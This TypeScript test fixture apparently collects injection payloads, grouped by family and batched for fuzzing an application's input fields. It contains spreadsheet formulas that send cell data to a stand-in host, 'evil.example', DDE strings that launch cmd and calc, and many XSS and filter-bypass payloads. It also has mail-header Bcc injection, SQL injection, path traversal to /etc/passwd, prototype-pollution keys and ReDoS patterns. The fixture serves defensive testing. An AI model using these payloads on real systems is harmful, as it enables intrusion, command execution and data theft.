// What somebody might put into a field to do harm: texts by family, each of them once.

export interface Payload {
  family: string;
  text: string;
}

/** What a payload sets in a page where it comes to life. */
export const mark = '__pwned';
/** Where a payload sends data, if it can. */
export const outside = 'evil.example';

const url = `https://${outside}/?`;
const run = `window.${mark}=1`;

// Signs that a spreadsheet takes for the beginning of a formula, and what may stand before them (platform.md, Formula injection).
const before = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '\u3000', '"', "'", '\u0000'];
const formulas = ['=', '+', '-', '@'].flatMap((sign, index) => before.filter((_, at) => index === 0 || at === 0 || at % 3 === index - 1).map((some) => `${some}${sign}HYPERLINK("${url}"&A1;"Klick")`));
const fullWidth = ['＝', '＋', '－', '＠'].flatMap((sign) => ['', '\u00a0'].map((some) => `${some}${sign}SUM(1;1)`));
const functions = [
  `=IMPORTDATA("${url}"&B2)`, `=IMPORTXML("${url}";"//a")`, `=IMPORTHTML("${url}";"table";1)`, `=IMPORTFEED("${url}")`, `=IMPORTRANGE("${url}";"A1")`, `=IMAGE("${url}"&A2)`,
  `=WEBSERVICE("${url}")`, `=QUERY(Mitglieder!A:Z;"select *")`, '=ARRAYFORMULA(Mitglieder!A1:C9)', '=BO(12045;"Sonnenallee";5)', `={"a";IMPORTDATA("${url}")}`, '=@A1', '==1+1', '=+-1', '=1/0', '{=1+1}', '=R1C1',
];
const dde = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=MSEXCEL|\'\\..\\..\\cmd.exe\'!\'\'', "=rundll32|'URL.dll,OpenURL calc.exe'!A", `=DDE("cmd";"/C calc";"!A0")`, '%0A=1+1'];

const scripts = [
  `<script>${run}</script>`, `<SCRIPT SRC="${url}"></SCRIPT>`, `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<svg onload=${run}>`, `<svg/onload="${run}"/>`, `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<math><mi xlink:href="javascript:${run}">x`,
  `<body onload=${run}>`, `<iframe src="javascript:parent.${mark}=1"></iframe>`, `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="${url}">`,
  `<a href="javascript:${run}">Klick</a>`, `<a href="${url}">Klick</a>`, `<form action="${url}"><input autofocus onfocus=${run}></form>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`, `<marquee onstart=${run}>`,
  `<style>@import "${url}";</style>`, `<style>*{background:url(${url})}</style>`, `<link rel=stylesheet href="${url}">`, `<meta http-equiv="refresh" content="0;url=${url}">`, `<base href="${url}">`, `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<!--><img src=x onerror=${run}>-->`, `<![CDATA[<img src=x onerror=${run}>]]>`, `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<img src="x` + '`' + `onerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`, `<p style="background:url(${url})">x</p>`, `<b>fett</b>`, '</p></body></html>', '</td></tr></table>', `<div id="app"></div>`, `<input type="hidden" value="`,
];
const breakouts = [
  `"><script>${run}</script>`, `'><script>${run}</script>`, `</script><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</textarea><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`,
  `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}`, '` onmouseover=`' + run, `x onclick=${run}`, `";${run};//`, `';${run};//`, `\\";${run};//`, `\${${run}}`, `*/${run}/*`, `\u2028${run}\u2028`,
];
const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`, `vbscript:msgbox(1)`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD4=`,
  `//${outside}/x`, `https://${outside}/"onmouseover="${run}`, `https://${outside}@example.org/`, `file:///etc/passwd`, `blob:https://${outside}/1`, `url(${url})`, `https:\\\\${outside}`,
];
const entities = ['&lt;script&gt;', '&#60;script&#62;', '&#x3c;img src=x&#x3e;', '%3Cscript%3E', '\\u003cscript\\u003e', '\\x3cscript\\x3e', '&amp;lt;b&amp;gt;', '&quot; onclick=&quot;', '&NewLine;', '＜script＞', '‹script›'];
const templates = [
  '{Vorname}', '{Anrede} {Abmelden}', '{{Vorname}}', '{Link}', '{{7*7}}', '{{constructor.constructor("return 1")()}}', '${7*7}', '#{7*7}', '<?= 7*7 ?>', '<?!= include("x") ?>', '<% 7*7 %>', '<?php echo 1 ?>', '[[7*7]]', '%s %d %n', '{0}', '{constructor}', '{__proto__}', '{',
  '}', '{Vorname', '{\nVorname}',
];
const markdown = [`[Klick](${url})`, `![x](${url})`, `[Klick](javascript:${run})`, '**fett**', '# Überschrift', '> Zitat', '```\n<script>\n```', '| a | b |', `<${url}>`, '* * *', '~~weg~~'];
const mails = [
  'Kim\r\nBcc: alle@evil.example', 'Kim\nBcc: alle@evil.example', 'Kim\rBcc: alle@evil.example', 'Kim%0aBcc:alle@evil.example', 'Kim%0D%0ACc: alle@evil.example', 'Kim\r\n Bcc: alle@evil.example', 'Kim\r\n\r\n<b>Text</b>', 'a@b.de, c@evil.example', 'a@b.de; c@evil.example',
  'a@b.de c@evil.example', 'a@b.de\nc@evil.example', 'Kim <a@b.de>, <c@evil.example>', '"Kim, <c@evil.example>" <a@b.de>', 'a@b.de>,<c@evil.example', 'Kim\u2028Bcc: alle@evil.example', 'Kim\u0085Bcc: alle@evil.example', 'Kim\u0000Bcc: alle@evil.example',
  '=?utf-8?B?PHNjcmlwdD4=?=', '=?utf-8?Q?=0D=0ABcc:alle=40evil.example?=', 'mailto:a@b.de?bcc=c@evil.example', 'a@b.de?bcc=c@evil.example', 'a@b.de\r\n.\r\nQUIT', 'To: alle@evil.example', 'Content-Type: text/html\r\n\r\n<b>x</b>', 'a@[127.0.0.1]', '"a b"@b.de', '@evil.example', 'a@b@evil.example',
];
const tables = ['a;b;c', 'a,b,c', 'a\tb\tc', '"', '""', '"a', 'a"b;c', 'a"\n=1+1', 'a\n=1+1', 'a\r\n+1', 'a;=1+1', 'a,=1+1', '";=1+1;"', 'a|b', "a';--", "' OR 1=1 --", 'sep=;', '\u001a', 'a\u0000b', '; ; ;', '(Auswahl)', 'x; …', '…'];
const keys = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', '__defineGetter__', '__lookupSetter__', 'toJSON', 'then', 'length', 'isPrototypeOf', 'undefined', 'null', 'NaN', '[object Object]', '{"__proto__":{"admin":true}}', 'constructor.prototype.admin', '["__proto__"]', '__proto__; constructor'];
const patterns = ['.*', '(a+)+$', '[', '\\', '(?:', '$&', '$1', "$'", '$`', '$$', '^', '*', '?', '+++', '(?<x>', '\\d+', '^(?=(a+))\\1+$', 'a{1,99999}', '|', '/x/'];
const signs = [
  '\u202eredro\u202c', '\u2066x\u2069', '\u200fx', '\u0301\u0301\u0301', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A', '👩‍👩‍👧‍👦', '😀'.repeat(40), '\ud800', 'x\udc00y', '\udfff\ud800', '\ufffe\uffff', '\u0007\u0008\u001b[31m', '\u00ad\u200d\u200c', 'ﷺ'.repeat(30), 'İstanbul ıI', 'ſtraẞe', '\u2028\u2029', '\u0085', 'ａｄｍｉｎ', 'а' + 'dmin', '𝕏'.repeat(30),
  '../../etc/passwd', '..\\..\\x', 'C:\\x', 'CON', 'x'.repeat(60_000), '=' + '1+'.repeat(30_000) + '1', '<b>'.repeat(20_000), 'ä '.repeat(2_500), ' \n '.repeat(500) + '=1',
];
const values = [
  '1-2', '33/33', '3/4', '1.2', '01.02.2026', '2026-11-22', '2026-11-22T00:00:00Z', '0012', '012045', '1e5', '1E400', '0x1F', '12:30', '10%', '5 €', '€5', '$5', '1,5', '1.000,5', '-', '--', "'", "''", "'1", 'TRUE', 'WAHR', 'wahr', 'Falsch', ' WAHR ', 'WAHR\u00a0', '#N/A', '#REF!', 'Infinity', '1 2/3', 'Jan 5', '5. Mai', '+49 30 1', '00000000000000000001',
  '9'.repeat(400),
];

const families: Readonly<Record<string, readonly string[]>> = { formulas, fullWidth, functions, dde, scripts, breakouts, addresses, entities, templates, markdown, mails, tables, keys, patterns, signs, values };

export const payloads: readonly Payload[] = Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text })));

/** For a message: short, and every sign to be seen. */
export function told({ family, text }: Payload): string {
  const some = text.length > 60 ? `${text.slice(0, 60)}… (${text.length})` : text;
  return `${family}: ${JSON.stringify(some)}`;
}

/** Longer than this, a text slows down whatever it passes through. */
const long = 2_000;

/**
 * Lots of about as many payloads of all families, the long ones in one of their own. Two of three, which are more than 200:
 * INJECTION=all takes all of them.
 */
export function lots(size: number): Payload[][] {
  const taken = payloads.filter((_payload, index) => process.env.INJECTION === 'all' || index % 3 !== 2);
  const some = taken.filter(({ text }) => text.length <= long);
  const count = Math.ceil(some.length / size);
  return [...Array.from({ length: count }, (_, lot) => some.filter((_payload, index) => index % count === lot)), taken.filter(({ text }) => text.length > long)];
}
